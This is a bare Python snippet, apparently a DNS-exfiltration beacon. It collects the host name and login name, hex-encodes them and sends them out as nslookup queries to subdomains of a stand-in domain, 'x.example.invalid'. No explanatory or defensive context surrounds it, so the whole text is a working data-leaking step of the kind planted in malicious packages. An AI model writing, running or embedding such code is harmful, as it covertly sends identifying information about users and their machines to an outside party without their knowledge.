import os
import socket
import subprocess

host = socket.gethostname().encode().hex()
user = os.getlogin().encode().hex()
for label in (host[:29], user[:29]):
    subprocess.run(["nslookup", label + ".x.example.invalid"], capture_output=True, check=False)
